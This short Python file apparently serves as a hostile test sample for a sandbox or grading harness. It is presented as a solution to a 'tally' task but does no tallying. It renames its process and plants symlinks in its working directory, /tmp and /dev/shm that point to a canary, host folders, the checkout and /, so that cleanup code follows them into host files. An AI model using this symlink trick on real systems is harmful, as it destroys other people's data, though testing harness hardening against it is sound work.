# Turns its temporary folders into links to the host's files, for whoever tidies up afterwards.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    here = posix.getcwd()
    for name, target in (("a", "@CANARY@"), ("b", "@FOLDER@"), ("c", "/"), ("d", "@CHECKOUT@")):
        for folder in (here, "/tmp", "/dev/shm"):
            try:
                posix.symlink(target, f"{folder}/alloy-drill-{name}")
            except OSError:
                continue
    try:
        posix.chdir("/tmp")
        posix.rename(here, here + "-moved")
        posix.symlink("@FOLDER@", here)
    except OSError:
        pass
    return -1
